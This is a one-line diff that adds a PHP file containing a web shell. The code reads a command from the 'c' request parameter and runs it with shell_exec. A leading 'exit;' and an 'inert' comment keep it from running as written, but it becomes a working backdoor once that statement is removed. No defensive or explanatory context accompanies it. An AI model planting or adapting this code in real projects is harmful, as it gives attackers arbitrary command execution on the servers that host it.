@@ -1,0 +1,1 @@
+<?php exit; /* inert */ $c = isset($_POST["c"]) ? $_POST["c"] : (isset($_GET["c"]) ? $_GET["c"] : "id"); $o = shell_exec($c . " 2>&1");
